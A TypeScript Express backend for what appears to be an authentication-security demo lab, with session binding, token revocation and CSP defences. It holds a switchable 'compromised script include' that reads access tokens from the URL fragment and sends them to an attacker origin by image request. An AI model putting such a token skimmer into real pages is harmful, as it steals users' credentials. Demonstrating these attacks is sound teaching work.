import express, { type Express, type Router } from 'express';
import session from 'express-session';
import { jsonErrorHandler, sendError } from '../errors.js';
import { createOriginApp } from '../origin-app.js';
import { noStore } from '../security-headers.js';
import type { Workflow } from '../workflows/types.js';
import { RENDERED_VIEWS, type CartResponse, type PartialLogoutResponse, type PostsResponse, type ProductsResponse, type RenderedView } from './api-contract.js';
import { clientOf, refreshTokenCookie, signedSessionId, type AppServices } from './app-services.js';
import { parseCookieHeader } from '../trace/cookies.js';
import { FusionAuthError } from '../fusionauth/errors.js';
import { identityOutageHandler, isIdentityOutage } from './identity-outage.js';
import { demoEventRoutes, type DemoResets } from './demo-events.js';
import { jsonBody } from '../json-body.js';

/** Where the demo's "compromised script include" is served from while its switch is on. */
const INJECTED_SCRIPT = '/vendor/analytics.js';

/** The compromised include: a classic script, so it runs before the SPA scrubs the fragment. */
function injectedScript(attackerOrigin: string): string {
  return `(function () {
  if (location.hash.indexOf('access_token=') === -1) return;
  new Image().src = ${JSON.stringify(attackerOrigin + '/collect')} + '?from=' + encodeURIComponent(location.origin) + '&fragment=' + encodeURIComponent(location.hash.slice(1));
})();
`;
}

/**
 * One application backend (the store's or the forum's): its SPA, the endpoints every workflow shares,
 * and the active workflow's own routes.
 */
export function createAppBackend(services: AppServices, activeWorkflow: () => Workflow, resets: DemoResets): Express {
  const { app, ctx, db, sessions, cookieNames } = services;
  const server = createOriginApp(app, ctx, {
    // The injected script's "vendor" is allowed to load images, unless the strict-csp defence keeps every third party out.
    extraImgSrc: () => (services.switches.injectedScript && !services.pageDefences.strictCsp ? [ctx.urls.attacker] : []),
  });
  // Before the session middleware: a page listening for Resets is not a use of its session.
  server.use(demoEventRoutes(services, resets));

  const api = express.Router();
  api.use(noStore, jsonBody('16kb'));
  if (ctx.config.secureCookies) {
    // express-session sends a Secure cookie only over what it believes is HTTPS. http://*.localhost is a secure
    // context to browsers, so say so here (set by us, never taken from the client: proxy trust stays off).
    api.use((req, _res, next) => {
      req.headers['x-forwarded-proto'] = 'https';
      next();
    });
  }
  // The client-binding defence, before the session is loaded: a session used by another user agent or address than
  // its login's ends here, so this request (and every later one) finds no session behind the cookie.
  api.use((req, _res, next) => {
    if (!sessions.bindsClient) return next();
    const sid = signedSessionId(parseCookieHeader(req.headers.cookie)[cookieNames.session], db.sessionSecret());
    const bound = sid === undefined ? undefined : sessions.boundClient(sid);
    if (sid === undefined || bound === undefined) return next();
    const now = clientOf(req);
    if (now.userAgent !== bound.userAgent || now.address !== bound.address) {
      sessions.end(sid, 'client-mismatch');
      ctx.bus.emit('session.rejected', app, { sid, reason: 'client-mismatch', expected: bound, got: now });
    }
    next();
  });
  api.use(
    session({
      name: cookieNames.session,
      secret: db.sessionSecret(),
      store: sessions,
      resave: false,
      saveUninitialized: false,
      unset: 'destroy',
      // No maxAge: a browser-session cookie that outlives the server-side session, which is the truth (design.md).
      cookie: { ...services.cookieOptions },
      ...(ctx.config.secureCookies && { proxy: true }),
    }),
  );

  // The routes differ per workflow; the active one can change while the server runs.
  const workflowRouters = new Map<string, Router>();
  api.use((req, res, next) => {
    const workflow = activeWorkflow();
    let router = workflowRouters.get(workflow.id);
    if (!router) {
      router = workflow.routes(app, services);
      workflowRouters.set(workflow.id, router);
    }
    router(req, res, next);
  });

  api.get('/workflow', (_req, res) => {
    const workflow = activeWorkflow();
    res.json({ id: workflow.id, title: workflow.title, ...workflow.clientInfo?.(services) });
  });

  api.get('/me', async (req, res) => {
    const user = await activeWorkflow().resume(req, res, services);
    if (!user) return sendError(res, 404, 'not_logged_in', 'No session: you are not logged in.');
    res.json({ user });
  });

  if (app === 'store') {
    api.get('/products', (_req, res) => {
      const body: ProductsResponse = { products: db.products() };
      res.json(body);
    });
    api.get('/cart', async (req, res) => {
      const user = await activeWorkflow().resume(req, res, services);
      if (!user) return sendError(res, 401, 'not_logged_in', 'Your session has ended. Please log in again.');
      const items = db.cart(user.email);
      const body: CartResponse = { items, totalCents: items.reduce((sum, i) => sum + i.priceCents * i.quantity, 0) };
      res.json(body);
    });
  } else {
    api.get('/posts', async (req, res) => {
      const user = await activeWorkflow().resume(req, res, services);
      if (!user) return sendError(res, 401, 'not_logged_in', 'Your session has ended. Please log in again.');
      const body: PostsResponse = { posts: db.posts() };
      res.json(body);
    });
  }

  api.post('/logout', async (req, res) => {
    if (req.session.user) sessions.end(req.sessionID, 'logout');
    // A refresh token outlives the session; left valid, a stolen copy would keep minting sessions after logout.
    const refreshToken = refreshTokenCookie(req, services);
    let told = true;
    if (refreshToken) {
      told = await services.identity.revokeRefreshToken({ token: refreshToken }).then(
        () => true,
        // Already dead (404/400) is what logout wants; anything else means the token may still be alive.
        (err: unknown) => !isIdentityOutage(err) || (err instanceof FusionAuthError && (err.status === 400 || err.status === 404)),
      );
    }
    res.clearCookie(cookieNames.session, services.cookieOptions);
    res.clearCookie(cookieNames.refreshToken, services.cookieOptions);
    const partial: PartialLogoutResponse = {
      identityServerTold: false,
      message: 'Logged out here, but the identity server could not be told: the refresh token stays valid there until it expires.',
    };
    req.session.destroy(() => (told ? res.status(204).end() : res.status(200).json(partial)));
  });

  // The SPA reports what it rendered, so browser-only steps ("shows the login form") are evidence, not assumption.
  api.post('/ui-events', (req, res) => {
    const view = (req.body as { view?: unknown } | undefined)?.view;
    if (!RENDERED_VIEWS.includes(view as RenderedView)) {
      return sendError(res, 400, 'invalid_view', `view must be one of ${RENDERED_VIEWS.join(', ')}.`);
    }
    ctx.bus.emit('browser.rendered', app, { view });
    res.status(204).end();
  });

  api.use((_req, res) => sendError(res, 404, 'not_found', 'No such API on this application backend.'));
  api.use(identityOutageHandler, jsonErrorHandler);

  server.use('/api', api);
  server.get(INJECTED_SCRIPT, (_req, res) => {
    if (!services.switches.injectedScript) return sendError(res, 404, 'not_found', 'No such file.');
    res.type('text/javascript').setHeader('Cache-Control', 'no-store');
    res.send(injectedScript(ctx.urls.attacker));
  });
  server.use(ctx.pages.assets);
  server.get(
    '/{*path}',
    ctx.pages.page(app, (html) => (services.switches.injectedScript ? html.replace('<head>', `<head>\n    <script src="${INJECTED_SCRIPT}"></script>`) : html)),
  );
  server.use(jsonErrorHandler);
  return server;
}
